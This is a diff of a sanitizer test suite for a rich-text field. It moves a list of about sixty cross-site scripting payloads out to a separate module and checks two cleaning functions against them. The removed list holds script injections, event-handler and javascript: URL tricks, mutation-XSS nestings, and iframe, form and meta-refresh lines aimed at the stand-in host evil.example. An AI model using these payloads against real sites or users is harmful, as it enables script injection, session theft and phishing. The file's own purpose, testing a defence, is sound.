@@ -3,26 +3,12 @@ import fc from 'fast-check';
 import { describe, expect, test } from 'vitest';
 import { addressSchemes, allowedTags, attributeNames, cleanStyle, isAllowedAddress } from '../../src/fields/richText/rules';
 import { sanitize } from '../../src/fields/richText/sanitize';
+import { cleanHtml } from '../../src/fields/richText/cleanHtml';
 import { emptied } from '../../src/fields/richText/kind';
+import { attacks } from './attacks';
 
-const attacks = [
-  '<script>alert(1)</script>', '<scr<script>ipt>alert(1)</scr</script>ipt>', '<img src=x onerror=alert(1)>', '<img/src=x/onerror=alert(1)//>',
-  '<svg onload=alert(1)>', '<svg><script>alert(1)</script></svg>', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
-  '<a href="javascript:alert(1)">x</a>', '<a href="JaVaScRiPt:alert(1)">x</a>', '<a href="java\nscript:alert(1)">x</a>', '<a href="&#106;avascript:alert(1)">x</a>',
-  '<a href="\u0001javascript:alert(1)">x</a>', '<a href="java&Tab;script:alert(1)">x</a>', '<a href="vbscript:x">x</a>', '<a href="data:text/html,<script>alert(1)</script>">x</a>',
-  '<a href="javascript&colon;alert(1)">x</a>', '<a href=" javascript:alert(1)">x</a>', '<a href="/\\evil.example">x</a>',
-  '<iframe src="https://evil.example"></iframe>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<object data="x.swf"></object>', '<embed src="x.swf">',
-  '<form action="https://evil.example"><input name=p><button>x</button></form>', '<base href="https://evil.example/">', '<link rel=stylesheet href=//evil.example>',
-  '<meta http-equiv=refresh content="0;url=https://evil.example">', '<style>@import "//evil.example"</style>', '<style>*{background:url(javascript:alert(1))}</style>',
-  '<div style="background:url(javascript:alert(1))">x</div>', '<div style="background-image:url(//evil.example/x)">x</div>', '<div style="width:expression(alert(1))">x</div>',
-  '<div style="position:fixed;inset:0;z-index:9999">x</div>', '<div style="behavior:url(x.htc)">x</div>', '<p style="color:red;background:u\\72l(x)">x</p>', '<p style="/**/color:/**/red">x</p>',
-  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
-  '<textarea><img src=x onerror=alert(1)></textarea>', '<template><script>alert(1)</script></template>', '<xmp><p title="</xmp><img src=x onerror=alert(1)>">', '<p title="<img src=x onerror=alert(1)>">x</p>',
-  '<video src="javascript:alert(1)" onplay=alert(1)></video>', '<video poster="javascript:alert(1)"></video>', '<audio src="data:text/html,x"></audio>', '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
-  '<details open ontoggle=alert(1)>x</details>', '<input autofocus onfocus=alert(1)>', '<marquee onstart=alert(1)>x</marquee>', '<a id="__proto__" name="constructor">x</a>', '<p id="root" class="MuiDialog-root">x</p>',
-  '<!--><img src=x onerror=alert(1)>-->', '<![CDATA[<img src=x onerror=alert(1)>]]>', '<img srcset="x 1x, javascript:alert(1) 2x">', '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>', '<p data-x="1" contenteditable=true>x</p>',
-  '<img src="x` `<script>alert(1)</script>"` `>', '<a target="_top" href="/x">x</a>',
-];
+/** As a browser writes it. */
+const normal = (html: string): string => new DOMParser().parseFromString(html, 'text/html').body.innerHTML;
 
 /** Everything a browser makes of the fragment obeys the rules. */
 function breaches(html: string): string[] {
@@ -31,7 +17,8 @@ function breaches(html: string): string[] {
     const tag = element.localName;
     if (!allowedTags.includes(tag)) return [`<${tag}>`];
     return [...element.attributes].flatMap(({ name, value }) => {
-      if (tag === 'a' && name === 'rel') return [];
+      // An element made with `is` is written with it for ever; the library empties it.
+      if ((tag === 'a' && name === 'rel') || (name === 'is' && value === '')) return [];
       if (!attributeNames(tag).includes(name)) return [`${tag} ${name}`];
       if (name === 'style' && cleanStyle(value) !== value) return [`style ${value}`];
       const schemes = addressSchemes[tag]?.[name];
@@ -48,11 +35,18 @@ describe('attacks', () => {
     expect(performance.now() - started).toBeLessThan(10_000);
   });
 
-  test.each(attacks)('%s loses its sting', (attack) => {
-    const clean = sanitize(attack);
-    expect(breaches(clean)).toEqual([]);
-    expect(clean).not.toMatch(/javascript:|vbscript:|<[^>]*\son\w+=/i);
-    expect(sanitize(clean)).toBe(clean);
+  describe.each([['the server', sanitize], ['the console', cleanHtml]] as const)('at %s', (_side, clean) => {
+    test.each(attacks)('%s loses its sting', (attack) => {
+      const once = clean(attack);
+      expect(breaches(once)).toEqual([]);
+      // Text may say anything; nothing of it stands in a tag.
+      expect(once.replace(/>[^<]*</g, '><')).not.toMatch(/(?:java|vb)script:|<[^>"]*\son\w+=/i);
+      expect(clean(once)).toBe(once);
+    });
+  });
+
+  test('what the server lets through, the console shows unchanged', () => {
+    for (const attack of attacks) expect(normal(cleanHtml(sanitize(attack)))).toBe(normal(sanitize(attack)));
   });
 
   test('in any combination, and cleaning twice changes nothing', () => {
